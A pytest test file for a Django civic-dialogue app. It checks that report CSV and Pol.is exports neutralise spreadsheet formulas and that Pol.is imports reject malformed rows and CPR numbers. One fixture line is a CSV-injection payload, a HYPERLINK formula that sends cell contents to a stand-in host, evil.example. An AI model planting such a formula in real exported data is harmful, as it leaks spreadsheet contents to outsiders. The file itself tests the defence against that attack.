"""Every way in and out of the dialogues passes the same guards: the report CSV and the Pol.is export are
formula-safe, and a Pol.is import is checked whole (columns, ids, votes, the CPR guard) before anything is saved."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from kompas.dialogues import services
from kompas.dialogues.models import Forum, Statement
from kompas.dialogues.polis_data import PolisFormatError, parse_export
from kompas.dialogues.tests import factories

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik")'

COMMENTS = (
    "timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n"
    "1400000000,2014-05-13,1,7,2,0,1,Flere cykelstier\n"
    '1400000001,2014-05-13,2,8,1,1,0,"Mere grønt, færre biler"\n'
)
VOTES = (
    "timestamp,datetime,comment-id,voter-id,vote\n"
    "1400000010,2014-05-13,1,1,1\n"
    "1400000011,2014-05-13,2,1,-1\n"
    "1400000012,2014-05-13,1,2,0\n"
)


@pytest.mark.django_db
def test_report_csv_neutralises_a_formula_statement(role_users, client_for):
    forum = factories.forum(statements=[INJECTION, "+SUM(1;2)", "Et almindeligt udsagn"])
    statements = list(forum.statements.order_by("pk"))
    for index, kind in enumerate(["citizen", "employee", "leader", "programme"]):
        participant = services.participant_join(
            forum=forum, user=role_users[kind], stakeholder_type="citizen"
        )
        for offset, statement in enumerate(statements):
            services.vote_cast(
                participant=participant, statement=statement, value=[1, -1, 0][(index + offset) % 3], key=""
            )
    opinion_map = services.map_request(forum=forum, force=True)
    services.map_compute(map_id=opinion_map.pk)

    response = client_for("anonymous").get(reverse("dialogues:report-csv", args=[forum.pk]))
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeffstatement_id;statement")
    cells = [line.split(";", 1)[1] for line in body.splitlines()[1:]]
    assert any(cell.startswith("\"'=HYPERLINK(") for cell in cells), cells
    assert any(cell.startswith('"\'+SUM(1;2)"') for cell in cells), cells  # quoted: it holds the delimiter
    assert not any(cell.startswith(("=", '"=', "+", '"+')) for cell in cells)


@pytest.mark.django_db
def test_polis_export_neutralises_text_keeps_negative_votes_and_round_trips(role_users):
    forum = factories.forum(statements=[INJECTION, "Et almindeligt udsagn"])
    participant = services.participant_join(
        forum=forum, user=role_users["citizen"], stakeholder_type="citizen"
    )
    for statement in forum.statements.all():
        services.vote_cast(participant=participant, statement=statement, value=-1, key="")
    archive = zipfile.ZipFile(io.BytesIO(services.polis_export(forum)))
    comments, votes = archive.read("comments.csv").decode(), archive.read("votes.csv").decode()
    assert not comments.startswith("\ufeff")
    assert "\"'=HYPERLINK(" in comments
    assert all(line.endswith(",-1") for line in votes.splitlines()[1:])  # numbers stay numbers
    imported = services.polis_import(
        title="Genimport", comments_csv=comments, votes_csv=votes, actor=role_users["programme"]
    )
    assert imported.statements.filter(text=INJECTION).exists()  # the apostrophe is taken off again


def _problems(comments: str, votes: str) -> dict[tuple[str, str], tuple[int, ...]]:
    with pytest.raises(PolisFormatError) as caught:
        parse_export(comments, votes)
    return {(p.file, p.code): p.lines for p in caught.value.problems}


def test_parse_export_reads_a_good_export():
    export = parse_export(COMMENTS, VOTES)
    assert [(s.external_id, s.text, s.moderated) for s in export.statements] == [
        ("1", "Flere cykelstier", 1),
        ("2", "Mere grønt, færre biler", 0),
    ]
    assert export.votes == {("1", "1"): 1, ("1", "2"): -1, ("2", "1"): 0}


@pytest.mark.parametrize(
    ("comments", "votes", "expected"),
    [
        ("", VOTES, {("comments.csv", "empty"): ()}),
        (COMMENTS, "   \n", {("votes.csv", "empty"): ()}),
        ("navn;alder\nAnna;3\n", VOTES, {("comments.csv", "missing_columns"): (1,)}),
        ("%PDF-1.7\x00\x00binary", VOTES, {("comments.csv", "not_csv"): (1,)}),
        (COMMENTS + "1400000002,x,tre,9,0,0,0,Tekst\n", VOTES, {("comments.csv", "bad_id"): (4,)}),
        (COMMENTS + "1400000002,x,1,9,0,0,0,Igen\n", VOTES, {("comments.csv", "duplicate"): (4,)}),
        (COMMENTS + "1400000002,x,3,9,0,0,5,Tekst\n", VOTES, {("comments.csv", "bad_moderated"): (4,)}),
        (COMMENTS, VOTES + "1400000013,x,1,3,7\n", {("votes.csv", "bad_vote"): (5,)}),
        (COMMENTS, VOTES + "1400000013,x,9,3,1\n", {("votes.csv", "unknown_statement"): (5,)}),
        (COMMENTS, VOTES + "nu,x,1,3,1\n", {("votes.csv", "bad_number"): (5,)}),
        (
            COMMENTS + "1400000002,x,3,9,0,0,0,Mit CPR er 010190\u20111234\n",
            VOTES + "1400000013,x,1,0101901234,1\n",
            {("comments.csv", "cpr"): (4,), ("votes.csv", "cpr"): (5,)},
        ),
        ("comment-id,comment-body\n", VOTES, {("comments.csv", "no_statements"): ()}),
    ],
)
def test_parse_export_names_every_problem_with_its_file_and_lines(comments, votes, expected):
    assert _problems(comments, votes) == expected


def test_a_quoted_multiline_statement_keeps_the_line_numbers_of_later_rows():
    comments = COMMENTS.replace("Flere cykelstier", '"Flere\ncykelstier"') + (
        "1400000002,x,3,9,0,0,0,CPR 0101901234\n"
    )
    assert _problems(comments, VOTES) == {("comments.csv", "cpr"): (5,)}


def test_too_many_rows_is_refused(monkeypatch):
    from kompas.dialogues import polis_data

    monkeypatch.setattr(polis_data, "MAX_VOTE_ROWS", 2)
    assert _problems(COMMENTS, VOTES) == {("votes.csv", "too_many_rows"): (4,)}


def _upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/csv")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("comments", "votes", "message"),
    [
        (
            (COMMENTS + "1400000002,x,3,9,0,0,0,Mit personnummer er 010190-1234\n").encode(),
            VOTES.encode(),
            "comments.csv: Line 4 appears to contain a CPR number",
        ),
        (b"navn;alder\n", VOTES.encode(), "missing: comment-id, comment-body"),
        (b" ", VOTES.encode(), "comments.csv: The file is empty."),
        (COMMENTS.encode("utf-16"), VOTES.encode(), "could not be read as UTF-8"),
        (b"PK\x03\x04\x14\x00\x00", VOTES.encode(), "could not be read as CSV"),
        (
            COMMENTS.encode(),
            (VOTES + "1400000013,x,1,3,7\n").encode(),
            "votes.csv: A vote must be 1, 0 or -1 (line 5).",
        ),
    ],
)
def test_a_bad_pol_is_upload_gives_an_error_and_creates_no_forum(
    role_users, client_for, comments, votes, message
):
    client = client_for("programme")
    client.cookies["kompas_language"] = "en"
    response = client.post(
        reverse("dialogues:import"),
        {
            "title": "Import",
            "comments": _upload("comments.csv", comments),
            "votes": _upload("votes.csv", votes),
        },
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Forum.objects.filter(title="Import").exists()
    assert not Statement.objects.filter(text__contains="010190").exists()
